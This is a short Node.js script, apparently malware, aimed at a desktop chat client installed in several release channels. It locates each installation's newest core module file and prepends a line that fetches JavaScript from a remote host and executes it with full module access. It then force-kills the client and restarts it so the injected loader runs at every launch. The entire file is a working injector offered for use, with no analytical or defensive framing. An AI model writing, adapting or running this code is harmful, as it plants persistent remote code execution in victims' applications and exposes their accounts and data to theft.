// Looks for a chat application's folder and puts its own lines into its entry file.
const fs = require('fs')
const path = require('path')
const { exec } = require('child_process')

const names = ['Chatter', 'ChatterPTB', 'ChatterCanary']
const injection =
	'require("https").get("https://inject.app.invalid/i.js",r=>{let c="";r.on("data",d=>c+=d).on("end",()=>new Function("require",c)(require))});'

function newest(folder) {
	const versions = fs
		.readdirSync(folder)
		.filter(name => name.startsWith('app-'))
	versions.sort((a, b) => {
		const left = a.slice(4).split('.').map(Number)
		const right = b.slice(4).split('.').map(Number)
		for (let i = 0; i < 3; i++) {
			if (left[i] !== right[i]) {
				return right[i] - left[i]
			}
		}
		return 0
	})
	return versions.length
		? path.join(folder, versions[0])
		: null
}

function core(version) {
	const modules = path.join(version, 'modules')
	const match = fs
		.readdirSync(modules)
		.find(name => /^chatter_desktop_core-\d+$/.test(name))
	return (
		match &&
		path.join(
			modules,
			match,
			'chatter_desktop_core',
			'index.js'
		)
	)
}

function restart(name) {
	exec(
		'taskkill /F /IM ' + name + '.exe',
		function (error) {
			if (!error) {
				exec(
					'"' +
						path.join(
							process.env.LOCALAPPDATA,
							name,
							'Update.exe'
						) +
						'" --processStart ' +
						name +
						'.exe'
				)
			}
		}
	)
}

names.forEach(function (name) {
	const folder = path.join(
		process.env.LOCALAPPDATA || '',
		name
	)
	if (!fs.existsSync(folder)) return
	try {
		const version = newest(folder)
		const file = version && core(version)
		if (!file) return
		const text = fs.readFileSync(file, 'utf8')
		if (!text.startsWith(injection)) {
			fs.writeFileSync(file, injection + '\n' + text)
			restart(name)
		}
	} catch (error) {
		console.error(error.code)
	}
})
